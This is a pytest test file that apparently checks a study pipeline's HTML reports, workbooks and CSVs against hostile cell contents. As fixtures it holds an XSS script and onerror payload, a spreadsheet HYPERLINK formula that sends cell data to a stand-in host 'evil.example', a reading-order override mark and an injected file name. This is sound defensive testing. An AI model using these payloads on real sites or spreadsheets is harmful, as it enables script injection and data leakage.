"""A study whose cells hold scripts, formulas, marks that turn the reading order, and text without end: pages and workbooks stay
harmless and legible."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tests.generator import generate
from tests.run.command import ROOT, snakemake, study_folder

pytestmark = pytest.mark.long

SCRIPT = "<script>window.ran = 1</script><img src=x onerror='window.ran = 2'>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TURNED = "5 \u202e001 fo\u202c 7"
LONG = "so long " * 1300  # over 10,000 characters
NAME = "reply '\"&<b onmouseover=alert(1)>.csv"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = study_folder(tmp_path_factory.mktemp("hostile"), raw=None)
    raw = folder / "data" / "raw"
    generate(raw, seed=7, teams=16, bodies=6)
    (raw / "reference").symlink_to(ROOT / "data" / "raw" / "reference")
    (folder / "config" / "rulings.yml").unlink()
    register = pd.read_csv(raw / "register.csv", dtype=str, keep_default_na=False)
    body = register.loc[register["collection"] == "foi", "body"].iloc[0]
    register.loc[register["body"] == body, "name"] = f"{SCRIPT} {TURNED}"
    register.to_csv(raw / "register.csv", index=False)
    place = raw / "foi" / body
    place.mkdir(exist_ok=True)
    for old in place.iterdir():
        old.unlink()
    rows = [["Referrals received"], ["Age", "2022/23", "2023/24"], ["0", "1", "<5"], ["1", FORMULA, TURNED], ["2", LONG, SCRIPT]]
    rows += [[SCRIPT, FORMULA, TURNED], [LONG, "@SUM(1)", "+1+1"]]
    with (place / NAME).open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)
    done = snakemake(folder)
    assert done.returncode == 0, done.stdout + done.stderr
    return folder / "results"


def test_its_text_is_text_on_every_page(narrow, hostile: Path) -> None:
    pages = [hostile / "findings.html", hostile / "changes.html", hostile / "audit" / "index.html"]
    pages += sorted((hostile / "audit" / "returns").glob("*.html")) + sorted((hostile / "audit" / "metrics").glob("camhs*.html"))
    pages = [page for page in pages if "onerror" in page.read_text(encoding="utf-8") or page.name == "findings.html"]
    assert len(pages) >= 4
    for page in pages:
        narrow.open(page)
        assert narrow.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, page.name
        assert narrow.page.evaluate("window.ran") is None, page.name
        narrow.quiet()


def test_what_stood_in_the_cells_can_be_read(tab, hostile: Path) -> None:
    [page] = [p for p in (hostile / "audit" / "returns").glob("*.html") if "onmouseover" in p.read_text(encoding="utf-8")]
    tab.open(page)
    said = tab.page.locator("main").inner_text()
    assert SCRIPT in said and FORMULA in said
    assert "5 ⟨U+202E⟩001 fo⟨U+202C⟩ 7" in said, "a mark that turns what follows is named"
    assert LONG not in said and "so long …" in said
    assert tab.page.evaluate("window.ran") is None
    tab.quiet()


def test_no_text_runs_in_a_workbook(hostile: Path) -> None:
    """What begins like a formula is text; the only formulas are ours."""
    for name in ("audit.xlsx", "tables.xlsx"):
        for sheet in openpyxl.load_workbook(hostile / name):
            for cell in (cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)):
                assert "evil.example" not in cell.value or cell.data_type == "s", f"{name} {sheet.title} {cell.coordinate}"
                assert len(cell.value) < 33_000


def test_no_cell_of_a_csv_begins_a_formula(hostile: Path) -> None:
    for path in sorted(hostile.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            for n, row in enumerate(csv.reader(file), 1):
                begins = [cell for cell in row if cell.startswith(("=", "@", "\t", "\r", "+", "-")) and not _number(cell)]
                assert not begins, f"{path.name}, line {n}: {begins[0][:60]}"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
